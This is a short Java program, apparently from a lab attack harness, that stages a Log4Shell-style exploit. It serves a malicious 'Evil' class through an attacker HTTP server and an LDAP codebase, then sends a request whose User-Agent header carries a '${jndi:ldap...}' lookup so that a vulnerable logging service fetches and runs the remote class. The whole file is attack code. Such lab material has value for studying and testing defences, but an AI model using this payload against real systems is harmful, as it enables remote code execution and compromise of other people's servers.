import java.util.Map;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Ldap;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.serve(Map.of("/Evil.class", Attacker.classBytes(Evil.class)));
    Ldap.serveCodebase("Evil");
    Attacker.get("/log", "User-Agent", "${jndi:" + Ldap.URL + "/a}");
    Attacker.done();
  }
}
